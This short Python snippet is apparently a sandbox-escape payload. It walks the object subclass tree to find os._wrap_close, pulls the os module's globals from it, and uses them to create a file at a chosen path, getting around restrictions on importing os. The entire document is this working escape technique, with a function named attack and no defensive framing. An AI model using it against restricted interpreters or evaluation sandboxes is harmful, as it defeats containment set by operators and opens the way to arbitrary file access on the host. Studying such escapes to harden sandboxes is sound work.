# Walks to `os`, and makes a file.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(out_path):
    words = _reach()
    return words["open"](out_path, words["O_CREAT"] | words["O_WRONLY"])
